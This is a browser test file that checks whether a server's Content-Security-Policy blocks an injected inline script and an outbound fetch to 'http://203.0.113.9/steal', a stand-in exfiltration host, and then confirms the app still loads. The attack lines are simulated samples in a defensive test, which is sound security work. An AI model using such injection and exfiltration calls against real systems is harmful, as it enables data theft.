/**
 * The server's Content-Security-Policy (signal-server/static.ts) is in force in the browser and
 * the app runs under it: every browser test fails on a CSP report (e2e/fixtures.ts), and this one
 * shows that such a report is what an injected script produces.
 */
import { expect, test } from './fixtures.ts';

test('the CSP refuses an injected inline script and an exfiltrating fetch, and the app runs under it', async ({ tabs }) => {
  const tab = await tabs.open();
  const outcome = await tab.page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
    const fetched = await fetch('http://203.0.113.9/steal').then(() => 'sent', () => 'refused');
    return { injected: (window as unknown as { injected?: boolean }).injected === true, fetched };
  });
  expect(outcome).toEqual({ injected: false, fetched: 'refused' });
  await expect.poll(() => tab.errors.filter((e) => e.includes('Content Security Policy')).length).toBeGreaterThanOrEqual(2);
  // Those two reports were the point of this test; anything else still fails it at teardown.
  tab.errors.splice(0, tab.errors.length, ...tab.errors.filter((e) => !e.includes('Content Security Policy')));
  await expect(tab.page.getByRole('textbox', { name: 'Username' })).toBeVisible();
});
